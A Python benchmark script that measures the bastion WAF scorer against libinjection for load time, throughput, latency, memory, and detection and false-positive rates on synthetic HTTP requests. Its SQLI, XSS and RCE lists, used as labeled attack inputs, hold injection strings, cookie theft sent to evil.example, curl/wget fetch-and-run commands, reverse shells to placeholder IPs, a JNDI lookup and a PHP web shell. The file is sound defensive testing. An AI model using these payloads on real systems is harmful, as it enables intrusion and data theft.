#!/usr/bin/env python
"""Benchmark bastion's WAF scorer against libinjection on the same requests.

For each peer, in its own subprocess pinned to one core with BLAS/OpenMP threads set to
one: load time, batched throughput (bastion: ``score_batch`` in batches of 256), latency
at batch 1 (mean/p50/p99 over >= 5000 calls after warm-up), peak RSS after loading and
scoring, detection/false-positive rates on the labeled inputs and, with ``--long-body``,
the worst time on 1 MB and 10 MB hostile bodies. Prints a markdown table; ``--markdown-out``
also writes it with the command line, machine, date and model version (for BENCHMARKS.md).

    python benchmarks/waf_bench.py --n 10000 --seed 0 --long-body --markdown-out out.md
"""

from __future__ import annotations

import argparse
import datetime as dt
import importlib
import importlib.util
import json
import math
import os
import platform
import random
import resource
import shlex
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus, urlencode

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
PEERS = ("bastion", "libinjection")
THREAD_ENV = (
    "OMP_NUM_THREADS",
    "OPENBLAS_NUM_THREADS",
    "MKL_NUM_THREADS",
    "NUMEXPR_NUM_THREADS",
    "VECLIB_MAXIMUM_THREADS",
    "BLIS_NUM_THREADS",
)
LONG_BODY_SIZES = (1 << 20, 10 << 20)
LONG_BODY_KINDS = ("random", "percent", "entity")
WORKER_TIMEOUT_S = 150


def _setup_paths() -> None:
    """Make ``bastion`` (from ``src/`` when not installed) and ``peers`` importable."""
    if str(HERE) not in sys.path:
        sys.path.insert(0, str(HERE))
    if importlib.util.find_spec("bastion") is None:
        sys.path.insert(0, str(ROOT / "src"))


def _single_thread_env() -> None:
    for name in THREAD_ENV:
        os.environ[name] = "1"


# --------------------------------------------------------------------------- inputs

SQLI = [
    "1' OR '1'='1",
    "1 OR 1=1--",
    "' UNION SELECT username, password FROM users--",
    "1; DROP TABLE users--",
    "admin'--",
    "1' AND SLEEP(5)#",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' OR 1=1 LIMIT 1 -- -",
    "1) UNION ALL SELECT NULL,NULL,NULL--",
    "-1' UNION SELECT 1,table_name FROM information_schema.tables#",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "'; EXEC xp_cmdshell('dir')--",
    "1 WAITFOR DELAY '0:0:5'--",
    "' OR 'x'='x",
    "1' ORDER BY 10--",
    '" OR ""="',
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "' || (SELECT pg_sleep(5))--",
]
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(document.cookie)>",
    '"><script>alert(String.fromCharCode(88,83,83))</script>',
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "'><img src=1 onerror=prompt(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '"-alert(1)-"',
    "</title><script>fetch('//evil.example/'+document.cookie)</script>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
]
RCE = [
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(curl http://evil.example/x.sh | sh)",
    "&& wget http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
    "; nc -e /bin/sh 203.0.113.5 4444",
    "|| ping -c 10 127.0.0.1",
    "${jndi:ldap://evil.example/a}",
    "'; system('id'); '",
    "__import__('os').system('id')",
    "; bash -i >& /dev/tcp/203.0.113.5/8080 0>&1",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "$(sleep 5)",
    "<?php system($_GET['c']); ?>",
]
PAYLOADS = {"sqli": SQLI, "xss": XSS, "rce": RCE}

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
]
WORDS = [
    *("red", "running", "shoes", "men's", "size", "10", "winter", "jacket", "o'brien"),
    *("rock", "&", "roll", "vinyl", "4k", "tv", "best", "price", "usb-c", "cable"),
    *("kids'", "toys", "coffee", "grinder", "50%", "off", "gift", "card", "new", "arrivals"),
]
TEXTS = [
    "Great product, would buy again! 5/5",
    "I don't think it's worth the price -- the strap broke after a week.",
    "Can you ship to Montreal? We're moving on the 1st.",
    "Order #4521: wrong colour (ordered blue, got green); please advise.",
    "Works fine with my Mac & iPad. Setup took < 5 minutes.",
    "Hi, I'd like to return item 3 of 4 (the 'large' one).",
]
PATHS = [
    "/",
    "/search",
    "/products/{id}",
    "/api/v1/users/{id}/orders",
    "/blog/{slug}",
    "/category/{slug}",
    "/account/settings",
    "/cart",
]


def _hex(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def _browser_headers(rng: random.Random) -> list[tuple[str, str]]:
    headers = [
        ("Host", "shop.example.com"),
        ("User-Agent", rng.choice(USER_AGENTS)),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", rng.choice(["en-US,en;q=0.9", "fr-CA,fr;q=0.8,en;q=0.5", "de-DE"])),
        ("Accept-Encoding", "gzip, deflate, br"),
        (
            "Cookie",
            f"session={_hex(rng, 32)}; _ga=GA1.2.{rng.randrange(10**9)}.{rng.randrange(10**9)}; "
            f"theme={rng.choice(['dark', 'light'])}",
        ),
    ]
    if rng.random() < 0.6:
        headers.append(("Referer", f"https://shop.example.com/search?q={rng.choice(WORDS)}"))
    return headers


def builtin_benign(rng: random.Random) -> Any:
    """A realistic clean request: browser headers, a query string, sometimes a body."""
    from bastion.waf.request import HttpRequest

    path = rng.choice(PATHS).format(
        id=rng.randrange(1, 10**6), slug="-".join(rng.sample(WORDS, 3)).replace("'", "")
    )
    params = [("q", " ".join(rng.sample(WORDS, rng.randint(1, 4))))]
    params += rng.sample(
        [
            ("page", str(rng.randint(1, 40))),
            ("sort", rng.choice(["price_asc", "price_desc", "newest"])),
            ("utm_source", "newsletter"),
            ("utm_campaign", f"spring-{rng.randint(2020, 2026)}"),
            ("lang", "en-US"),
            ("ref", _hex(rng, 8)),
            ("redirect", "/account/orders?id=" + str(rng.randrange(10**5))),
        ],
        rng.randint(0, 4),
    )
    headers = _browser_headers(rng)
    method, body = "GET", b""
    roll = rng.random()
    if roll < 0.15:
        method = "POST"
        form = {"name": rng.choice(["Ana", "Jean-Luc", "O'Neil"]), "comment": rng.choice(TEXTS)}
        body = urlencode(form).encode()
        headers.append(("Content-Type", "application/x-www-form-urlencoded"))
    elif roll < 0.25:
        method = "POST"
        doc = {"query": rng.choice(TEXTS), "items": [rng.randrange(100) for _ in range(3)]}
        body = json.dumps(doc).encode()
        headers.append(("Content-Type", "application/json"))
    return HttpRequest(method, f"{path}?{urlencode(params)}", tuple(headers), body)


def builtin_place(payload: str, rng: random.Random) -> Any:
    """A benign-looking request carrying ``payload`` in a query, form, JSON, cookie or header."""
    from bastion.waf.request import HttpRequest

    base = builtin_benign(rng)
    headers = [h for h in base.headers if h[0].lower() != "content-type"]
    where = rng.choice(["query", "query", "form", "json", "cookie", "header"])
    uri, method, body = base.uri, base.method, b""
    if where == "query":
        uri = f"{base.path}?id={quote_plus(payload)}&page=1"
    elif where == "form":
        method, body = "POST", urlencode({"user": "ana", "comment": payload}).encode()
        headers.append(("Content-Type", "application/x-www-form-urlencoded"))
    elif where == "json":
        method, body = "POST", json.dumps({"search": payload, "page": 1}).encode()
        headers.append(("Content-Type", "application/json"))
    elif where == "cookie":
        headers = [h for h in headers if h[0].lower() != "cookie"]
        headers.append(("Cookie", f"session={_hex(rng, 32)}; pref={quote(payload)}"))
    else:
        name = rng.choice(["User-Agent", "Referer", "X-Forwarded-For"])
        headers = [h for h in headers if h[0].lower() != name.lower()]
        headers.append((name, payload))
    return HttpRequest(method, uri, tuple(headers), body)


def _as_request(obj: Any) -> Any:
    from bastion.waf.request import HttpRequest

    if isinstance(obj, HttpRequest):
        return obj
    if isinstance(obj, tuple) and obj and isinstance(obj[0], HttpRequest):
        return obj[0]  # datagen's place() returns (request, location)
    for attr in ("request", "req"):
        inner = getattr(obj, attr, None)
        if isinstance(inner, HttpRequest):
            return inner
    if isinstance(obj, dict):
        return HttpRequest.from_json(obj)
    raise TypeError(f"cannot turn {type(obj).__name__} into an HttpRequest")


BenignFn = Callable[[random.Random], Any]
PlaceFn = Callable[[str, random.Random], Any]


def _generators() -> tuple[str, BenignFn, PlaceFn]:
    datagen: Any = None
    try:
        datagen = importlib.import_module("bastion.waf.datagen")
    except Exception:  # any import failure: use the builtin generator
        datagen = None
    benign = getattr(datagen, "benign_request", None)
    place = getattr(datagen, "place", None)
    if callable(benign) and callable(place):
        return "bastion.waf.datagen benign_request/place (builtin payload lists)", benign, place
    return "the builtin generator", builtin_benign, builtin_place


def build_inputs(n: int, seed: int, sessions: int = 0) -> tuple[str, list[tuple[Any, str | None]]]:
    """``n`` requests, 80% clean and 20% attacks split evenly over the vectors.

    With ``sessions`` > 0, clean requests come from that many clients: each keeps its
    headers (user agent, cookies...) across its requests, as real browsers do, while the
    request line and body are new every time.
    """
    source, benign, place = _generators()
    rng = random.Random(seed)
    profiles = [_as_request(benign(rng)).headers for _ in range(sessions)]
    out: list[tuple[Any, str | None]] = []
    for _ in range(n):
        if rng.random() < 0.8:
            request = _as_request(benign(rng))
            if profiles:
                headers = rng.choice(profiles)
                own = tuple(h for h in request.headers if h[0].lower().startswith("content-"))
                keep = tuple(h for h in headers if not h[0].lower().startswith("content-"))
                request = type(request)(request.method, request.uri, keep + own, request.body)
            out.append((request, "clean"))
        else:
            vector = rng.choice(sorted(PAYLOADS))
            out.append((_as_request(place(rng.choice(PAYLOADS[vector]), rng)), vector))
    return source, out


def read_inputs(path: Path) -> list[tuple[Any, str | None]]:
    """Requests (and their optional ``label``) from a JSON-lines file; bad lines are skipped."""
    from bastion.waf.request import HttpRequest, RequestFormatError

    out: list[tuple[Any, str | None]] = []
    with path.open(encoding="utf-8", errors="replace") as fh:
        for line in fh:
            if not line.strip():
                continue
            try:
                obj = json.loads(line)
                request = HttpRequest.from_json(obj)
            except (ValueError, RequestFormatError):
                continue
            label = obj.get("label")
            out.append((request, label.lower() if isinstance(label, str) else None))
    return out


def long_body_requests(seed: int) -> list[tuple[str, Any]]:
    """1 MB and 10 MB bodies: random bytes, ``%`` runs and ``&#`` runs (form-encoded)."""
    from bastion.waf.request import HttpRequest

    rng = random.Random(seed)
    headers = (
        ("Host", "shop.example.com"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    )
    out = []
    for size in LONG_BODY_SIZES:
        for kind in LONG_BODY_KINDS:
            if kind == "random":
                body = rng.randbytes(size)
            elif kind == "percent":
                body = (b"q=" + b"%%25%u%" * (size // 7 + 1))[:size]
            else:
                body = (b"c=&#x3c;" + b"&#" * (size // 2 + 1))[:size]
            out.append((f"{size >> 20}MB/{kind}", HttpRequest("POST", "/upload", headers, body)))
    return out


# --------------------------------------------------------------------------- worker


def _percentile(sorted_values: Sequence[float], q: float) -> float:
    idx = max(0, math.ceil(q * len(sorted_values)) - 1)
    return sorted_values[idx]


def _rss_kib() -> int:
    return int(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)


def _vm_hwm_kib() -> int | None:
    """Peak RSS of this process image from /proc (a cross-check of ru_maxrss)."""
    try:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    except (OSError, ValueError, IndexError):
        pass
    return None


def run_worker(args: argparse.Namespace) -> dict[str, Any]:
    """Measure one peer in this process (pinned to ``args.core``)."""
    _single_thread_env()
    os.sched_setaffinity(0, {args.core})
    _setup_paths()
    rss_start = _rss_kib()

    t0 = time.perf_counter()
    batch: Callable[[Sequence[Any]], list[Any]]
    single: Callable[[Any], Any]
    flagged: Callable[[Any], bool]
    own_head: Callable[[Any, str], bool | None]
    if args.worker == "bastion":
        from bastion.waf import load_scorer

        t1 = time.perf_counter()
        # The cache of repeated values is off unless asked for: whole passes over the same
        # requests would otherwise hit it for every value.
        scorer = load_scorer(args.model, cache_size=args.cache_size)
        version = f"model {scorer.version}"
        if args.cache_size:
            version += f", cache {args.cache_size}"
        batch = scorer.score_batch
        single = load_scorer(args.model, cache_size=0).score
        flagged = lambda r: r.score <= 20  # noqa: E731
        own_head = lambda r, v: getattr(r, v) <= 20  # noqa: E731
    else:
        import peers

        t1 = time.perf_counter()
        peer = peers.LibinjectionPeer()
        version = peer.version
        batch = lambda rs: [peer.verdict(r) for r in rs]  # noqa: E731
        single = peer.verdict
        flagged = lambda r: r.flagged  # noqa: E731
        own_head = lambda r, v: getattr(r, v) if v in ("sqli", "xss") else None  # noqa: E731
    t2 = time.perf_counter()
    rss_loaded = _rss_kib()

    inputs = read_inputs(Path(args.inputs))
    if not inputs:
        raise SystemExit(f"no valid requests in {args.inputs}")
    requests = [r for r, _ in inputs]
    labels = [lab for _, lab in inputs]
    label_counts: dict[str, int] = {}
    for label in labels:
        label_counts[label or "unlabeled"] = label_counts.get(label or "unlabeled", 0) + 1

    # warm-up
    batch(requests[: args.batch_size])
    for request in requests[:200]:
        single(request)

    # throughput: whole passes in batches until >= 2 s
    results: list[Any] = []
    scored, elapsed, passes = 0, 0.0, 0
    while passes == 0 or (elapsed < 2.0 and not args.cache_size):
        start = time.perf_counter()
        for i in range(0, len(requests), args.batch_size):
            out = batch(requests[i : i + args.batch_size])
            if passes == 0:
                results.extend(out)
        elapsed += time.perf_counter() - start
        scored += len(requests)
        passes += 1

    # latency at batch 1
    times: list[float] = []
    clock = time.perf_counter_ns
    for i in range(args.latency_calls):
        request = requests[i % len(requests)]
        start_ns = clock()
        single(request)
        times.append((clock() - start_ns) / 1000.0)
    times.sort()
    rss_peak = _rss_kib()
    hwm_peak = _vm_hwm_kib()

    quality: dict[str, dict[str, int]] = {}
    for result, label in zip(results, labels, strict=True):
        if label is None:
            continue
        q = quality.setdefault(label, {"n": 0, "flagged": 0, "own_head": 0, "own_head_n": 0})
        q["n"] += 1
        q["flagged"] += int(flagged(result))
        own = own_head(result, label) if label != "clean" else None
        if own is not None:
            q["own_head_n"] += 1
            q["own_head"] += int(own)

    long_body: dict[str, float] = {}
    if args.long_body:
        for name, request in long_body_requests(args.seed):
            start = time.perf_counter()
            single(request)
            long_body[name] = time.perf_counter() - start

    return {
        "peer": args.worker,
        "version": version,
        "n": len(requests),
        "import_s": t1 - t0,
        "load_s": t2 - t1,
        "throughput_rps": scored / elapsed,
        "throughput_passes": passes,
        "latency_us": {
            "calls": len(times),
            "mean": statistics.fmean(times),
            "p50": _percentile(times, 0.50),
            "p99": _percentile(times, 0.99),
        },
        "rss_start_kib": rss_start,
        "rss_loaded_kib": rss_loaded,
        "rss_peak_kib": rss_peak,
        "vm_hwm_peak_kib": hwm_peak,
        "label_counts": label_counts,
        "quality": quality,
        "long_body_s": long_body,
        "rss_after_long_body_kib": _rss_kib() if args.long_body else None,
    }


# --------------------------------------------------------------------------- report


def _wilson(k: int, n: int) -> tuple[float, float]:
    from bastion.waf.evaluate import wilson_interval

    return wilson_interval(k, n)


def _rate_cell(k: int, n: int) -> str:
    if n == 0:
        return "n/a"
    lo, hi = _wilson(k, n)
    return f"{100 * k / n:.2f}% [{100 * lo:.2f}, {100 * hi:.2f}] ({k}/{n})"


def _cpu_model() -> str:
    try:
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            if line.lower().startswith("model name"):
                return line.split(":", 1)[1].strip()
    except OSError:
        pass
    return platform.processor() or "unknown"


def render_markdown(
    results: dict[str, dict[str, Any] | str],
    *,
    command: str,
    source: str,
    label_counts: dict[str, int],
    core: int,
) -> str:
    """The benchmark report: setup lines and one table, peers as columns."""
    ok = {k: v for k, v in results.items() if isinstance(v, dict)}
    cols = list(results)

    def row(name: str, cell: Callable[[dict[str, Any]], str]) -> str:
        cells = [cell(ok[p]) if p in ok else "failed" for p in cols]
        return f"| {name} | " + " | ".join(cells) + " |"

    mix = ", ".join(f"{k} {v}" for k, v in sorted(label_counts.items()))
    versions = "; ".join(f"{p}: {r['version']}" for p, r in ok.items())
    lines = [
        "## WAF scorer benchmark: bastion vs libinjection",
        "",
        f"- Command: `{command}`",
        f"- Date: {dt.datetime.now(dt.UTC).strftime('%Y-%m-%d %H:%M UTC')}",
        f"- Machine: {_cpu_model()}, {os.cpu_count()} logical CPUs, {platform.platform()}, "
        f"Python {platform.python_version()}",
        f"- Each peer in its own process pinned to core {core}, BLAS/OpenMP threads = 1",
        f"- Versions: {versions}",
        f"- Inputs: {sum(label_counts.values())} requests from {source} ({mix})",
        "- Flagged: bastion global score <= 20; libinjection SQLi or XSS check fires on any "
        "decoded parameter, cookie, header value or the body. Rates with Wilson 95% CI.",
        "- RSS is ru_maxrss of the peer's process: after import + load, then after scoring "
        "(which includes the parsed inputs and bastion's request module in both processes).",
        "",
        "| metric | " + " | ".join(cols) + " |",
        "|---|" + "---|" * len(cols),
        row("scorer load time (ms)", lambda r: f"{1e3 * r['load_s']:.1f}"),
        row("import + load time (ms)", lambda r: f"{1e3 * (r['import_s'] + r['load_s']):.0f}"),
        row("throughput, 1 core, batched (req/s)", lambda r: f"{r['throughput_rps']:,.0f}"),
        row("latency batch 1, mean (µs)", lambda r: f"{r['latency_us']['mean']:,.1f}"),
        row("latency batch 1, p50 (µs)", lambda r: f"{r['latency_us']['p50']:,.1f}"),
        row("latency batch 1, p99 (µs)", lambda r: f"{r['latency_us']['p99']:,.1f}"),
        row("RSS after import + load (MiB)", lambda r: f"{r['rss_loaded_kib'] / 1024:.0f}"),
        row(
            "peak RSS after scoring, inputs included (MiB)",
            lambda r: f"{r['rss_peak_kib'] / 1024:.0f}",
        ),
    ]

    def q(label: str, key: str, nkey: str = "n") -> Callable[[dict[str, Any]], str]:
        def cell(r: dict[str, Any]) -> str:
            stats = r["quality"].get(label)
            return _rate_cell(stats[key], stats[nkey]) if stats else "n/a"

        return cell

    if "clean" in label_counts:
        lines.append(row("false positives on clean (flagged)", q("clean", "flagged")))
    for vector in ("sqli", "xss", "rce"):
        if vector in label_counts:
            lines.append(row(f"detection {vector} (flagged)", q(vector, "flagged")))
            lines.append(
                row(f"detection {vector} (own check/head)", q(vector, "own_head", "own_head_n"))
            )
    if any(r["long_body_s"] for r in ok.values()):
        for size in LONG_BODY_SIZES:
            prefix = f"{size >> 20}MB/"

            def worst(r: dict[str, Any], prefix: str = prefix) -> str:
                times = {k: v for k, v in r["long_body_s"].items() if k.startswith(prefix)}
                kind = max(times, key=times.__getitem__)
                return f"{1e3 * times[kind]:,.0f} ({kind.split('/')[1]})"

            lines.append(row(f"{size >> 20} MB body, max time (ms)", worst))
        lines.append(
            row(
                "peak RSS after long bodies (MiB)",
                lambda r: f"{(r['rss_after_long_body_kib'] or 0) / 1024:.0f}",
            )
        )
    failed = [f"- {p} failed: {v}" for p, v in results.items() if isinstance(v, str)]
    if failed:
        lines += ["", *failed]
    return "\n".join(lines) + "\n"


# --------------------------------------------------------------------------- main


def _parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    ap.add_argument("--requests", type=Path, help="JSON-lines requests (optional 'label')")
    ap.add_argument("--n", type=int, default=10000, help="requests to generate (default 10000)")
    ap.add_argument("--seed", type=int, default=0)
    default_core = max(os.sched_getaffinity(0))
    ap.add_argument("--core", type=int, default=default_core, help="CPU core to pin to")
    ap.add_argument("--long-body", action="store_true", help="also time 1 MB and 10 MB bodies")
    ap.add_argument("--markdown-out", type=Path, help="write the markdown report here")
    ap.add_argument("--json-out", type=Path, help="write raw measurements here")
    ap.add_argument("--model", help="bastion model file (default: the shipped model)")
    ap.add_argument("--peers", default=",".join(PEERS), help="comma-separated subset of peers")
    ap.add_argument("--batch-size", type=int, default=256)
    ap.add_argument("--latency-calls", type=int, default=5000)
    ap.add_argument(
        "--sessions",
        type=int,
        default=0,
        help="clean requests come from this many clients that keep their headers (0: all new)",
    )
    ap.add_argument(
        "--cache-size",
        type=int,
        default=0,
        help="bastion's cache of repeated values (0: off); with a cache, one pass is timed",
    )
    ap.add_argument("--worker", choices=PEERS, help=argparse.SUPPRESS)
    ap.add_argument("--inputs", help=argparse.SUPPRESS)
    ap.add_argument("--result", help=argparse.SUPPRESS)
    ap.add_argument("--build-inputs", help=argparse.SUPPRESS)
    return ap.parse_args(argv)


def _child_env() -> dict[str, str]:
    env = {**os.environ, **dict.fromkeys(THREAD_ENV, "1")}
    src = str(ROOT / "src")
    if src in sys.path:
        env["PYTHONPATH"] = os.pathsep.join(filter(None, [src, env.get("PYTHONPATH", "")]))
    return env


def _spawn(peer: str, args: argparse.Namespace, inputs: Path, tmp: Path) -> dict[str, Any] | str:
    out = tmp / f"{peer}.json"
    cmd = [sys.executable, str(Path(__file__).resolve()), "--worker", peer]
    cmd += ["--inputs", str(inputs), "--result", str(out), "--core", str(args.core)]
    cmd += ["--seed", str(args.seed), "--batch-size", str(args.batch_size)]
    cmd += ["--latency-calls", str(args.latency_calls), "--cache-size", str(args.cache_size)]
    if args.long_body:
        cmd.append("--long-body")
    if args.model:
        cmd += ["--model", args.model]
    try:
        proc = subprocess.run(
            cmd,
            env=_child_env(),
            capture_output=True,
            text=True,
            timeout=WORKER_TIMEOUT_S,
            check=False,
        )
    except subprocess.TimeoutExpired:
        return f"timed out after {WORKER_TIMEOUT_S}s"
    if proc.returncode != 0 or not out.exists():
        tail = (proc.stderr or proc.stdout).strip().splitlines()[-1:] or ["no output"]
        return f"exit {proc.returncode}: {tail[0]}"
    result: dict[str, Any] = json.loads(out.read_text())
    return result


def main(argv: Sequence[str] | None = None) -> int:
    """Build or read the inputs, measure each peer in a subprocess, print the table."""
    args = _parse_args(argv)
    _setup_paths()
    if args.worker:
        _single_thread_env()
        Path(args.result).write_text(json.dumps(run_worker(args)))
        return 0
    if args.build_inputs:
        source, inputs = build_inputs(args.n, args.seed, args.sessions)
        with open(args.build_inputs, "w", encoding="utf-8") as fh:
            for request, label in inputs:
                fh.write(json.dumps({**request.to_json(), "label": label}) + "\n")
        print(source)
        return 0

    # This process stays free of bastion/numpy until the workers are done: a child's
    # ru_maxrss starts from its parent's high-water mark at exec time on Linux.
    peers = [p.strip() for p in args.peers.split(",") if p.strip()]
    results: dict[str, dict[str, Any] | str] = {}
    with tempfile.TemporaryDirectory(prefix="waf-bench-") as tmpdir:
        tmp = Path(tmpdir)
        if args.requests:
            source, path = f"the file {args.requests}", args.requests.resolve()
        else:
            path = tmp / "inputs.jsonl"
            cmd = [sys.executable, str(Path(__file__).resolve()), "--build-inputs", str(path)]
            cmd += ["--n", str(args.n), "--seed", str(args.seed)]
            proc = subprocess.run(
                cmd, env=_child_env(), capture_output=True, text=True, check=False
            )
            if proc.returncode != 0:
                print(proc.stderr, file=sys.stderr)
                return 2
            source = proc.stdout.strip().splitlines()[-1]
        for peer in peers:
            print(f"measuring {peer} ...", file=sys.stderr, flush=True)
            results[peer] = _spawn(peer, args, path, tmp)
    ok = [r for r in results.values() if isinstance(r, dict)]
    label_counts: dict[str, int] = ok[0]["label_counts"] if ok else {}
    if ok and not label_counts:
        print("no requests to benchmark", file=sys.stderr)
        return 2

    command = "python " + shlex.join(
        [os.path.relpath(sys.argv[0]) if sys.argv else "benchmarks/waf_bench.py", *sys.argv[1:]]
    )
    report = render_markdown(
        results, command=command, source=source, label_counts=label_counts, core=args.core
    )
    print(report)
    if args.markdown_out:
        args.markdown_out.write_text(report, encoding="utf-8")
    if args.json_out:
        args.json_out.write_text(json.dumps(results, indent=1), encoding="utf-8")
    return 0 if all(isinstance(v, dict) for v in results.values()) else 1


if __name__ == "__main__":
    sys.exit(main())
